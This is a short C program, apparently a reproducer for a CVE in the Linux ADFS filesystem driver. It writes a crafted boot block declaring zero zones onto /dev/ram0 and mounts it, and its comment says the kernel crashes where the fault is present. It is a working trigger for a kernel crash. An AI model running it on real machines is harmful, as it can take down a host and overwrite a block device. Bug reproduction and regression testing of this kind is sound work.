// SPDX-License-Identifier: GPL-2.0-or-later
//
// CVE-2026-52992: an ADFS file system of zero zones, of which the kernel takes the first. Writes one on
// a RAM disk and mounts it; where the fault is, this program dies in the kernel.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#define BOOT_BLOCK 0xc00
#define RECORD (BOOT_BLOCK + 0x1c0)

int main(void)
{
	static unsigned char image[8192];
	unsigned int sum = 0;
	int i, f, error;

	image[RECORD] = 10;		/* sectors of 1024 bytes */
	image[RECORD + 4] = 15;		/* length of an id */
	image[RECORD + 5] = 10;		/* bytes of a map bit */
	image[RECORD + 9] = 0;		/* zones */
	image[RECORD + 17] = 1;		/* size: 65536 */
	for (i = 511; i--; sum = (sum & 0xff) + (sum >> 8) + image[BOOT_BLOCK + i])
		;
	image[BOOT_BLOCK + 511] = sum;
	f = open("/dev/ram0", O_WRONLY);
	if (f < 0 || write(f, image, sizeof(image)) != sizeof(image))
		return 2;
	close(f);
	mkdir("/tmp/adfs", 0700);
	error = mount("/dev/ram0", "/tmp/adfs", "adfs", MS_RDONLY, NULL) ? errno : 0;
	printf("no zones: %s\n", error ? strerror(error) : "mounted");
	return !error;
}
